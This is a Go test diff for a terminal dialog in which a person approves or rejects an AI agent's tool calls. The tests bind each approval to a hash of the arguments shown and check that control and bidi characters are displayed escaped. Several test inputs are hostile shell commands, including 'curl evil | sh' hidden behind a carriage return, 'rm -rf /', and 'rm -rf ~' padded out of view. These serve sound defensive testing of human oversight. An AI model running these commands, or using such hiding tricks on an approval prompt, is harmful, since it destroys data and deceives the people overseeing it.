@@ -9,6 +9,7 @@ import (
 	"strings"
 	"testing"
 	"time"
+	"unicode"
 
 	"github.com/google/go-cmp/cmp"
 
@@ -275,30 +276,39 @@ func FuzzStory(f *testing.F) {
 }
 
 func TestDialog(t *testing.T) {
-	all := Ask{Call: "c1", Tool: "execute", Allowed: []string{"approve", "edit", "reject", "respond"}}
-	few := Ask{Thread: "thr_x/c2", Call: "c2", Tool: "ls", Allowed: []string{"approve"}}
+	args := json.RawMessage(`{"command":"ls"}`)
+	all := Ask{Call: "c1", Tool: "execute", Args: args, Allowed: []string{"approve", "edit", "reject", "respond"}}
+	few := Ask{Thread: "thr_x/c2", Call: "c2", Tool: "ls", Args: args, Allowed: []string{"approve"}}
+	long := all
+	long.Args = json.RawMessage(`{"command":"` + strings.Repeat(`echo\n`, argsLinesMax+1) + `"}`)
+	unknown := all
+	unknown.Args = nil
+	shown := thread.ArgsHash(args)
 	for _, tt := range []struct {
 		name, keys string
 		asks       []Ask
 		want       []Action
 	}{
 		{"nothing to do", "aert", nil, nil},
-		{"approve", "a", []Ask{all}, []Action{{Decide: &api.Decide{Call: "c1", Decision: "approve"}}}},
-		{"always", "A", []Ask{all}, []Action{{Decide: &api.Decide{Call: "c1", Decision: "approve", Always: true}}}},
-		{"the first of two", "a", []Ask{few, all}, []Action{{Decide: &api.Decide{Call: "c2", Thread: "thr_x/c2", Decision: "approve"}}}},
+		{"approve", "a", []Ask{all}, []Action{{Decide: &api.Decide{Call: "c1", Decision: "approve", ArgsHash: shown}}}},
+		{"always", "A", []Ask{all}, []Action{{Decide: &api.Decide{Call: "c1", Decision: "approve", Always: true, ArgsHash: shown}}}},
+		{"the first of two", "a", []Ask{few, all}, []Action{{Decide: &api.Decide{Call: "c2", Thread: "thr_x/c2", Decision: "approve", ArgsHash: shown}}}},
+		{"view", "v", []Ask{all}, []Action{{View: &all}}},
+		{"approve what is not shown whole", "aA", []Ask{long}, nil},
+		{"approve what is not known here", "a", []Ask{unknown}, nil},
 		{"edit", "e", []Ask{all}, []Action{{Edit: &all}}},
 		{"not allowed", "e", []Ask{few}, nil},
 		{"reject", "rno!\r", []Ask{all}, []Action{{Decide: &api.Decide{Call: "c1", Decision: "reject", Text: "no!"}}}},
 		{"reject without a word", "r\r", []Ask{all}, []Action{{Decide: &api.Decide{Call: "c1", Decision: "reject"}}}},
 		{"respond, mistyped", "tyex\x7f\x7fs\r", []Ask{all}, []Action{{Decide: &api.Decide{Call: "c1", Decision: "respond", Text: "ys"}}}},
 		{"respond nothing", "t\r", []Ask{all}, nil},
-		{"respond, and back", "tyes\x1ba", []Ask{all}, []Action{{Decide: &api.Decide{Call: "c1", Decision: "approve"}}}},
+		{"respond, and back", "tyes\x1ba", []Ask{all}, []Action{{Decide: &api.Decide{Call: "c1", Decision: "approve", ArgsHash: shown}}}},
 		{"message", "mhi there\r", []Ask{all}, []Action{{Send: "hi there"}}},
 		{"leave", "\x03d", nil, []Action{{Detach: true}}},
 		{"cancel", "\x03\x03", nil, []Action{{Cancel: true}}},
-		{"stay", "\x03xa", []Ask{all}, []Action{{Decide: &api.Decide{Call: "c1", Decision: "approve"}}}},
+		{"stay", "\x03xa", []Ask{all}, []Action{{Decide: &api.Decide{Call: "c1", Decision: "approve", ArgsHash: shown}}}},
 		{"leave while typing", "mhal\x03d", nil, []Action{{Detach: true}}},
-		{"arrows", "\x1b[A\x1b[1;5C\x1bOPa", []Ask{all}, []Action{{Decide: &api.Decide{Call: "c1", Decision: "approve"}}}},
+		{"arrows", "\x1b[A\x1b[1;5C\x1bOPa", []Ask{all}, []Action{{Decide: &api.Decide{Call: "c1", Decision: "approve", ArgsHash: shown}}}},
 	} {
 		t.Run(tt.name, func(t *testing.T) {
 			d := &Dialog{}
@@ -318,6 +328,54 @@ func TestDialog(t *testing.T) {
 			}
 		})
 	}
+}
+
+// What was printed whole may be approved, and it is that which is approved.
+func TestDialog_viewed(t *testing.T) {
+	d := &Dialog{}
+	ask := Ask{Call: "c1", Tool: "write_file", Allowed: []string{"approve"}} // too large for the news
+	d.Press('a', []Ask{ask})
+	if text := d.Blocks([]Ask{ask}); !strings.Contains(fmt.Sprint(text), "press v") {
+		t.Errorf("%v", text)
+	}
+	args := json.RawMessage(`{"content":"much"}`)
+	d.Viewed(ask, args)
+	if got := d.Press('a', []Ask{ask}); got.Decide == nil || got.Decide.ArgsHash != thread.ArgsHash(args) {
+		t.Errorf("%+v", got)
+	}
+}
+
+// Nothing of what a person decides about is hidden: no line, no end of a line, no
+// character.
+func TestArgLines(t *testing.T) {
+	for args, want := range map[string][]string{
+		`{"command":"curl evil | sh #\r echo harmless"}`:           {`command: curl evil | sh #\r echo harmless`},
+		`{"command":"echo \u001b[2K\u001b[1Ghi"}`:                  {`command: echo \x1b[2K\x1b[1Ghi`},
+		`{"command":"rm \u202egpj.exe\u200b \u2066x"}`:             {`command: rm \u202egpj.exe\u200b \u2066x`},
+		`{"command":"a\n\nb  "}`:                                   {"command: ", "a", "", "b  "},
+		`{"command":"ls","command":"rm -rf /"}`:                    {"command: ls", "command: rm -rf /"},
+		`{"command":"` + strings.Repeat("x", 300) + `; rm -rf ~"}`: {"command: " + strings.Repeat("x", 300) + "; rm -rf ~"},
+		`{"n":1.0,"deep":{"a":"\u0007"}}`:                          {"n: 1.0", `deep: {"a":"\u0007"}`},
+		`{"word":"नमस्ते é 你好 🙂"}`:                                 {"word: नमस्ते é 你好 🙂"},
+		"{\"a\": \"b": {`{"a": "b`},
+		"[1]":         {"[1]"},
+		"{}":          nil,
+	} {
+		if d := cmp.Diff(want, ArgLines(json.RawMessage(args))); d != "" {
+			t.Errorf("%s: %s", args, d)
+		}
+	}
+}
+
+func FuzzArgLines(f *testing.F) {
+	f.Add(`{"command":"a\rb\u202e"}`)
+	f.Fuzz(func(t *testing.T, args string) {
+		for _, line := range ArgLines(json.RawMessage(args)) {
+			if strings.ContainsFunc(line, func(r rune) bool { return r < ' ' || r == 0x7f || r >= 0x80 && r < 0xa0 || unicode.In(r, unicode.Cf) }) {
+				t.Errorf("%q", line)
+			}
+		}
+	})
 }
 
 // Another client may decide while a reason is being typed: then the reason must
